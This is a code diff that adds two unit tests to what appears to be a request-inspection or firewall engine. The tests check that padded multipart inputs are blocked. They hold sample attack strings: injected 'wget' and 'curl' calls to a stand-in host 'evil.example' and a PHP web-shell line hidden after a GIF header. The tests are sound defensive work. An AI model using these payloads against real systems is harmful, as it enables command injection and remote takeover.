@@ -406,5 +406,25 @@ TEST(Engine, JunkDoesNotMakeAParameterAFile) {
   EXPECT_TRUE(inspection.blocks()) << Summary(inspection);
 }
 
+TEST(Engine, AFewOddBytesDoNotHideAShortAttackInAPartOfAForm) {
+  Engine engine(EngineOptions{});
+  for (const absl::string_view text :
+       {"\x01\x01;wget http://evil.example/x", "\x01\x01$(curl evil.example)"}) {
+    Inspection inspection(engine);
+    Give(text, {200}, inspection, Place::kMultipart);
+    EXPECT_TRUE(inspection.blocks()) << text.substr(2) << Summary(inspection);
+  }
+}
+
+TEST(Engine, AccidentsInAPictureHideNoAttackBehindThem) {
+  Engine engine(EngineOptions{});
+  Inspection inspection(engine);
+  std::string picture = "GIF89a";
+  for (int i = 0; i < 200; ++i) picture.push_back(static_cast<char>(1 + i % 9));
+  picture += "<%=\x01 popen(\x01 <?php system($_GET[0]);?>";
+  Give(picture, {300}, inspection, Place::kMultipart);
+  EXPECT_TRUE(inspection.blocks()) << Summary(inspection);
+}
+
 }  // namespace
 }  // namespace firebreak::inspect
